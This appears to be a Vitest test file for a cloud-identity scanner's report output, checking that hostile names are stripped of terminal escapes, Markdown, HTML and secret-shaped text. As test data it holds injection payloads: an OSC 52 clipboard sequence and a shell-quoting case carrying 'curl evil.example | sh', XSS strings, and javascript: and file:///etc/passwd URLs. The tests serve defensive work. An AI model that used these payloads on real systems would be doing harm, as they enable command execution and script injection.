import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FORMATS, renderText, type Format } from '../../src/report/formats.js';
import { maskSecrets, stripControls } from '../../src/report/sanitize.js';
import type { ScanResult } from '../../src/model/scan-result.js';
import { runCli } from '../helpers/cli.js';
import { makeDrift, makeFinding, makeScan } from '../helpers/html-scan.js';
import { makeIdentity } from '../helpers/identity.js';

// Whoever can name a role, tag a service account or describe a token writes into our reports.
// Terminal escapes must not reach a terminal, Markdown must not become links, images, HTML or
// a broken fence in a job summary, and secret-shaped text must not travel on in any format.

const CLEAR = '\x1b[2J\x1b[H';
const OSC8 = '\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07';
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const TERMINAL = `role${CLEAR}${OSC8}${OSC52}\x9b31m\rmasked`;
const MARKDOWN = 'x](https://evil.example) ![img](https://evil.example/a.png) <img src=x onerror=alert(1)> <!-- hide ``` **bold** https://evil.example/auto';

const GHP = `ghp_${'A1b2C3d4E5'.repeat(4)}`;
const PAT = `github_pat_11ABCDEFG0${'x'.repeat(60)}`;
const GHS = `ghs_${'Z9y8X7w6V5'.repeat(4)}`;
const AWS = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const PEM = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----';
const CLIENT = 'client_secret=Qx8~abcDEF123.ghiJKL456_mnoPQR789';
const SECRETS = [GHP, PAT, GHS, AWS, 'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun', 'Qx8~abcDEF123'];

function hostile(): ScanResult {
  const who = makeIdentity({
    id: 'aws:111111111111:role/hostile',
    name: `${TERMINAL} ${MARKDOWN}`,
    verdict: 'agent',
    tags: { note: `deploy with ${GHP}`, description: `${PEM} and ${CLIENT}`, key: AWS },
  });
  const finding = makeFinding({
    identityId: who.id,
    identityName: who.name,
    message: `role ${TERMINAL} ${MARKDOWN} token ${PAT} ${GHS}`,
    evidence: { note: `${CLIENT} ${AWS}` },
    remediation: { text: `see ${MARKDOWN}`, command: `aws iam delete-role --role-name ${who.name}` },
    fingerprint: 'fp-hostile',
    baselineState: 'new',
  });
  return makeScan({ identities: [who], findings: [finding], drift: makeDrift({ new: [finding], resolved: [], unchanged: [] }) });
}

const ctx = { generatedAt: '2026-11-20T10:00:00Z', color: false, width: 160, sarifArtifact: 'bundle.json' };
const out = (format: Format, color = false) => renderText(format, hostile(), { ...ctx, color });

describe('terminal control characters', () => {
  it('never reach the table, the drift table included, and our own colours survive', () => {
    for (const color of [false, true]) {
      const text = out('table', color);
      expect(text).toContain('role'); // the name is shown, without its escapes
      const withoutSgr = text.replace(/\x1b\[[0-9;]*m/g, '');
      expect(withoutSgr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
      if (color) expect(text).toMatch(/\x1b\[[0-9;]*m/);
    }
  });

  it('stripControls removes CSI, OSC 8, OSC 52, C1 and carriage returns and keeps newlines and tabs', () => {
    expect(stripControls(`a${CLEAR}b${OSC8}c${OSC52}d\x9b31me\r\nf\tg\u202eh`)).toBe('abclick mecde\nf\tgh');
  });

  it('never reach the output of agentscan diff', () => {
    const dir = mkdtempSync(join(tmpdir(), 'agentscan-names-'));
    const snap = (findings: unknown[], name: string) => ({
      schemaVersion: '1',
      collectedAt: '2026-11-20T09:30:00Z',
      identities: [{ id: 'aws:1:role/x', provider: 'aws', kind: 'iam-role', name, enabled: true, agent: { verdict: 'agent' }, credentials: [], entitlements: [] }],
      findings,
    });
    const f = { ruleId: 'no-owner', identityId: 'aws:1:role/x', fingerprint: 'f1', severity: 'high', identityName: TERMINAL, message: TERMINAL };
    writeFileSync(join(dir, 'a.json'), JSON.stringify(snap([], 'x')));
    writeFileSync(join(dir, 'b.json'), JSON.stringify(snap([f], TERMINAL)));
    for (const format of ['table', 'markdown']) {
      const r = runCli(['diff', join(dir, 'a.json'), join(dir, 'b.json'), '--format', format]);
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('role');
      expect(r.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    }
  });
});

describe('Markdown for $GITHUB_STEP_SUMMARY', () => {
  it('renders names as text: no links, images, raw HTML, comments or autolinks', () => {
    const md = out('markdown');
    expect(md).not.toMatch(/\]\(https?:/); // [text](url) links and ![alt](url) images
    expect(md).not.toContain('<img');
    expect(md).not.toContain('<!--');
    expect(md).not.toContain('**bold**');
    expect(md).not.toMatch(/https?:\/\/evil/); // bare URLs GitHub would autolink
    expect(md).toContain('evil.example'); // still readable
  });

  it('no name can close the fence of the identity changes', () => {
    const scan = hostile();
    scan.drift!.identities.changed[0].identity.name = 'x\n```\n<script>alert(1)</script>\n```';
    const md = renderText('markdown', scan, ctx);
    const block = md.slice(md.indexOf('<details>'), md.indexOf('</details>'));
    const opening = /^(`{3,})diff$/m.exec(block)![1];
    expect(opening.length).toBeGreaterThan(3);
    const inside = block.slice(block.indexOf(`${opening}diff`) + opening.length + 4, block.lastIndexOf(opening));
    expect(inside).not.toMatch(new RegExp(`^${opening}\\s*$`, 'm'));
  });
});

describe('secret-shaped text', () => {
  it.each(FORMATS)('is masked in %s', (format) => {
    const text = out(format);
    for (const secret of SECRETS) expect(text, secret).not.toContain(secret);
    expect(text).toMatch(/\\?\[redacted\\?\]/);
  });

  it("is masked in the HTML page's graph and identity rows, which are cleaned apart from the rest", () => {
    const scan = hostile();
    const who = scan.identities[0];
    const other = 'aws:111111111111:role/next';
    const page = renderText('html', {
      ...scan,
      identities: [{ ...who, owners: [{ id: 'o1', kind: 'user', name: `owner ${GHS}`, source: 'api' }], credentials: [] }],
      reach: {
        nodes: [
          { id: who.id, provider: 'aws', kind: 'identity', name: who.name },
          { id: other, provider: 'aws', kind: 'identity', name: `next ${PAT}` },
        ],
        edges: [{ from: who.id, to: other, kind: 'assume-role', evidence: `trust policy quotes ${CLIENT}`, condition: `token ${GHP}` }],
        byIdentity: {},
      },
    }, ctx);
    for (const secret of SECRETS) expect(page, secret).not.toContain(secret);
    expect(page).toContain('owner [redacted]');
    expect(page).toContain('trust policy quotes client_secret=[redacted]');
  });

  it('leaves key ids, fingerprints and ordinary text alone', () => {
    const plain = 'AKIAIOSFODNN7EXAMPLE 0123456789abcdef0123456789abcdef01234567 arn:aws:iam::111111111111:role/ci-deployer token rotation every 90 days';
    expect(maskSecrets(plain)).toBe(plain);
    expect(maskSecrets(`note: ${CLIENT}`)).toBe('note: client_secret=[redacted]');
  });
});

describe('SARIF, rule references and fix commands', () => {
  it('SARIF message.text escapes embedded-link brackets and placeholder braces', async () => {
    const { sarifText } = await import('../../src/report/sarif.js');
    expect(sarifText('role [click](1) {0} \\')).toBe('role \\[click\\](1) {{0}} \\\\');
    const sarif = JSON.parse(out('sarif'));
    const text: string = sarif.runs[0].results[0].message.text;
    expect(text).not.toMatch(/(?<!\\)\[[^\]]*\]\(/);
  });

  it('a remediation command quotes every substituted value as one shell word', async () => {
    const { shellQuote } = await import('../../src/rules/evaluate.js');
    expect(shellQuote('ci-deployer')).toBe('ci-deployer');
    expect(shellQuote("x'; curl evil.example | sh; echo '")).toBe(`'x'\\''; curl evil.example | sh; echo '\\'''`);
    expect(shellQuote('$(id)')).toBe("'$(id)'");
  });

  it('rule references accept only https: URLs', async () => {
    const { ruleSchema } = await import('../../src/rules/schema.js');
    const base = { id: 'r', title: 't', family: 'over-scoped', severity: 'low', owasp: ['NHI5'], target: 'identity', description: 'd', remediation: { text: 'x' }, condition: 'true', message: 'm' };
    expect(ruleSchema.safeParse({ ...base, references: ['https://example.com/a'] }).success).toBe(true);
    for (const bad of ['javascript:alert(1)', 'http://example.com', 'data:text/html,<script>x</script>', 'file:///etc/passwd']) {
      const parsed = ruleSchema.safeParse({ ...base, references: [bad] });
      expect(parsed.success, bad).toBe(false);
    }
  });
});
